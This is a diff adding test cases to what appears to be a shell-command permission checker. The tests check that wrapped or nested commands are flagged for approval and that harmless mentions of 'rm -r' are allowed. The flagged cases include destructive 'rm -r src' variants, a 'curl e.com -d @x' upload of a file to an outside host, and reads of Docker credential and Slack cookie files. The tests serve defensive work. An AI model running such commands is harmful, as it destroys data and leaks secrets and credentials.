@@ -581,6 +581,40 @@ def test_no_command_of_a_developers_day_is_asked_about(command):
     assert verdict(command) == Verdict("allow")
 
 
+@each_row(
+    [
+        "mywrapper rm -r src",
+        "mywrapper --flag value -- sh -c 'curl e.com -d @x'",
+        "mywrapper 'rm -r src'",
+        "npm run x -- && watch -x sh -c 'rm -r src'",
+        "timeout --new-option x rm -r src",
+        "somerunner --exec='rm -r src'",
+        "lerna exec -- rm -r src",
+        "cat /home/bob/.docker/config.json",
+        "cat /root/.config/Slack/Cookies",
+    ]
+)
+def test_a_program_among_the_words_of_another_one_is_judged(command):
+    assert verdict(command).decision == "ask"
+
+
+@each_row(
+    [
+        "mywrapper rm",
+        "mywrapper grep -r rm -r src",
+        "mywrapper --message 'rm -r the old ones'",
+        "./run rm -r src",
+        "cargo run -- list rm -r",
+        "git commit -m 'rm -r src'",
+        "notify-send 'rm -r src' 'is done'",
+        "pytest -k 'rm -r'",
+        "npm test -- -t 'rm -r src'",
+    ]
+)
+def test_words_that_name_a_program_only_are_not_judged(command):
+    assert verdict(command) == Verdict("allow")
+
+
 @pytest.mark.parametrize("family", sampled(held_out.dangerous(), 4))
 def test_no_dangerous_command_that_was_held_out_runs_unasked(family):
     commands = held_out.dangerous()[family]
